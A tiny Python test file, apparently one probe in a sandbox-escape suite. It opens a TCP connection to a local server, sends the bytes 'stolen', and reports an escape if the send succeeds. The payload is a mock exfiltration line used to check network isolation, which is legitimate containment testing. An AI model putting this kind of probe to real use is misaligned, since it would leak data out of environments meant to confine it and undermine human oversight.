"""Sends what it knows to a server of the machine by TCP."""

import socket

from attack import escaped, target, tries

tries(lambda: socket.create_connection(("127.0.0.1", target.tcp), 2).sendall(b"stolen") or escaped("TCP"))
